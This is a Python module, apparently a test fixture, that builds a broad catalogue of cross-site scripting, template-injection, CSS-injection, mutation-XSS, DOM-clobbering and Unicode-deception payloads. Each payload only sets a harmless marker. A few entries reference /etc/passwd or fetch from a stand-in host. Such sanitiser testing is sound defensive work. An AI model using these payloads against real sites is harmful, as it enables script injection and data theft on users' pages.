"""Texts that try to run as code in a page: made by rule from parts. Each sets ``window.pwned`` if it is read as more than text.

To add one, put it into the list of its kind; :func:`payloads` crosses the kinds, and every field of a reading gets every payload.
"""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
"""What every payload would do: the detector looks for it."""
CALL = "pwn(1)"
"""The same as a call without signs that a quotation would need: ``pwn`` is there for it."""

ELEMENTS = (
    ("<script>", "</script>"),
    ("<script type=module>", "</script>"),
    ("<ScRiPt/x>", "</sCrIpT\t>"),
    ("<script\n>", "</script\n>"),
    ("<svg><script>", "</script></svg>"),
    ("<math><script>", "</script></math>"),
    ("<svg><script href=data:,", " /></svg>"),
)
"""Elements whose text or address is code."""
HANDLERS = (
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<IMG SRC=x: OnErRoR='{}'>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg\fonload={}>",
    "<body onload={}>",
    "<iframe onload={}></iframe>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>x",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<object data=x onerror={}></object>",
    "<embed src=x onerror={}>",
    "<link rel=stylesheet href=x onerror={}>",
    "<style onload={}></style>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={}>",
    "<b style=transition:1s onmouseover={} onfocus={} tabindex=1>x</b>",
    "<marquee onstart={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x to=y>",
    "<math><mtext onclick={}>x</mtext></math>",
    "<a href=# onclick={}>x</a>",
    "<button popovertarget=p>x</button><b popover id=p onbeforetoggle={}>",
    "<form onformdata={}><button>x</button></form>",
    "<dialog open onclose={}>",
    "<img srcset=x onerror={}>",
    "<x contenteditable onblur={} onfocus={} autofocus tabindex=0>",
    "<svg><image href=x onerror={}>",
    "<picture><source srcset=x><img onerror={}></picture>",
    "<meta http-equiv=refresh onload={}>",
    "<p onpointerenter={} oncontentvisibilityautostatechange={} style=content-visibility:auto>",
)
"""Elements that would run an event's code."""
BREAKERS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "<!--",
    '"/>\r\n',
    "</bdi></blockquote>",
)
"""What would first end the place that the text stands in."""
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\0script:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A&#x61vascript:{}",
    "javascript://x.example/%0a{}",
    "javascript:/*--></title>*/{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "vbscript:{}",
    "view-source:javascript:{}",
    "blob:{}",
    "feed:javascript:{}",
    'https://x.example/"onmouseover="{}',
    "https://x.example/'><svg onload={}>",
    "//x.example/{}",
    "http:javascript:{}",
    "https://javascript:{}@x.example",
    "file:///etc/passwd#{}",
    "\\\\x.example\\{}",
    "jar:javascript:{}",
)
"""Addresses that are code, or that would end their attribute."""
LINKS = (
    "{}",
    "<a href='{}'>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><input type=submit autofocus></form>",
    "<object data='{}'></object>",
    "<base href='{}//'>",
)
STRINGS = (
    "';{};'",
    '";{};"',
    "`;{};`",
    "${{{}}}",
    "`+{}+`",
    "\\';{};//",
    '\\";{};//',
    '\\\\";{};//',
    "\u2028{}\u2029",
    "\r\n{}\r\n",
    "*/{}/*",
    "*/;{}//",
    "\\u0027;{};//",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "');{};('",
    '"]);{};(["',
    "}}}});{};({{",
    "\\",
    "\\u2028{}",
    "</script\0>{}",
    "-{}-",
    "'-{}-'",
    '"-{}-"',
    "eval('{}')",
    "\ud83d{}",
)
"""Ends of strings in JSON and JavaScript."""
TEMPLATES = (
    "{{{{ {} }}}}",
    "{{% if {} %}}x{{% endif %}}",
    "{{# {} #}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<%= {} %>",
    "<?php {} ?>",
    "#{{{}}}",
    "@{{{}}}",
    "[[{}]]",
    "{{{{7*7}}}}{{% raise %}}",
    "{{{{ ''.__class__ }}}}",
    "{{0.__class__}}",
    "%s%n%(x)s",
    "{n} {words} {name}",
    "{title}",
)
"""What a template engine, a formatter or a catalogue of messages would fill in."""
STYLES = (
    "<style>*{{background:url(//x.example/{})}}</style>",
    "<style>@import '//x.example/{}';</style>",
    "<b style='background:url(javascript:{})'>x</b>",
    "<b style=width:expression({})>x</b>",
    "<link rel=stylesheet href=//x.example/{}>",
    "<style>:root{{display:none}}</style>{}",
    "}}*{{display:none}}{}",
    ";background:url(//x.example/{})",
    "<div style=position:fixed;inset:0;z-index:99999;background:#fff>{}</div>",
    "<svg><style>*{{display:none}}</style></svg>{}",
    "-moz-binding:url(//x.example/{})",
    "expression({})",
    "\\65xpression({})",
)
"""Styles that would run, fetch or cover the page."""
DOCUMENTS = (
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=//x.example/{}'>",
    "<base href=//x.example/>{}",
    "<base target=_parent>{}",
    "<plaintext>{}",
    "<xmp>{}",
    "<frameset onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>parent.{}</script>'></object>",
    "<portal src=//x.example/{}>",
    "<template><script>{}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<link rel=import href=data:text/html,{}>",
    "<link rel=prefetch href=//x.example/{}>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">{}",
    "<meta charset=utf-7>{}",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\xc0\xbcscript\xc0\xbe{}\xc0\xbc/script\xc0\xbe",
    "%3Cscript%3E{}%3C/script%3E",
    "%253Cscript%253E{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;img src=x onerror={}&#x3e;",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u02c2script\u02c3{}",
    "<\0script>{}</\0script>",
    "<scr\0ipt>{}</scr\0ipt>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script>{}",
    "<img src=x onerror={}",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>{}",
    "<!ENTITY x '{}'>&x;",
    "<xi:include href='//x.example/{}'/>",
)
"""What would change the document, in plain and in other writing."""
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg><foreignObject><math><annotation-xml encoding=text/html><img src=x onerror={}>",
    "<select><style></select><img src=x onerror={}></style>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>",
    "<title><a title='</title><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<iframe><img title='</iframe><img src=x onerror={}>'>",
    "<svg><desc><table><thead><style><!--</style></thead></desc><img src=x onerror={}>",
    "<table><td background=javascript:{}><caption><img src=x onerror={}>",
    "<a><a><table><a><img src=x onerror={}>",
    "<svg><title><style><img src=x onerror={}></style>",
)
"""What a second reading of the markup would turn into another."""
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "__defineGetter__",
    "then",
    "length",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "",
    " ",
    "citemap",
    "map_1",
    "map_1-plans",
    "<form id=citemap name=map_1><input name=attributes></form>",
    "<a id=cm><a id=cm name=app href=x:y>",
    "<img name=getElementById>",
    "<img name=body><form name=body>",
    "<input name=cookie form=f>",
    "<iframe name=citemap srcdoc=x></iframe>",
    "<object name=L></object>",
    "<form name=head><input id=children>",
    "<svg id=location>",
    "<a id=document name=defaultView>",
)
"""Names that a lookup by text would take for something else."""
DECEIVERS = (
    "\u202e<tpircs>{}",
    "\u202d{}\u2066",
    "\u2067{}",
    "\u200b<script>{}</script>",
    "\u200f{}\u200e",
    "\ufeff{}",
    "\u0000{}",
    "\x1b[31m{}",
    "\x08\x7f{}",
    "\ufffe\uffff{}",
    "\udc00{}\ud800",
    "e\u0301\u0301\u0301{}",
    "\u0430dmin {}",
    "👩\u200d🔧{}",
    "\U000e0041{}",
    "\u180e{}",
    "\u3164{}",
    "A{}" + "\u0300" * 300,
    "{}" + "x" * 4000,
    "{}" + "<b>" * 700,
    "{}" + "&#60;" * 500,
    "{}" + "\u202e" * 200,
    "\r{}\n\n\n{}\t",
)
"""Signs that turn, hide or stretch what stands beside them."""


def payloads() -> tuple[str, ...]:
    """Return all payloads, each once, in an order that mixes the kinds, so that any stretch of them has something of each."""
    kinds = [
        [
            breaker + before + code + after
            for breaker, (before, after), code in product(("", '"', "</script>", "-->"), ELEMENTS, (RUN, CALL))
        ],
        [breaker + _filled(handler) for breaker, handler in zip(_cycle(BREAKERS), HANDLERS * 5, strict=False)],
        [breaker + _filled(handler, RUN) for breaker, handler in zip(_cycle(BREAKERS[3:]), HANDLERS * 2, strict=False)],
        [_filled(link, _filled(address)) for link, address in product(LINKS[:3], ADDRESSES)],
        [_filled(link, _filled(address)) for link, address in product(LINKS[3:], ADDRESSES[:6])],
        [_filled(text, code) for text, code in product(STRINGS, (RUN, CALL))],
        *([_filled(text) for text in each] for each in (TEMPLATES, STYLES, DOCUMENTS, MUTATIONS, DECEIVERS)),
        list(NAMES),
    ]
    rows = sorted(
        ((place / len(kind), at, text) for at, kind in enumerate(kinds) for place, text in enumerate(kind)), key=lambda row: row[:2]
    )
    return tuple(dict.fromkeys(text for _, _, text in rows))


def spread(count: int) -> tuple[str, ...]:
    """Return so many payloads, taken evenly from all."""
    every = payloads()
    return tuple(every[at * len(every) // count] for at in range(count)) if count < len(every) else every


def _filled(text: str, code: str = CALL) -> str:
    """Put the code where a payload wants it; a text with other braces stays as it is."""
    try:
        return text.format(code, code)
    except (IndexError, KeyError, ValueError, AttributeError):
        return text


def _cycle(values: tuple[str, ...]) -> list[str]:
    return list(values) * 40
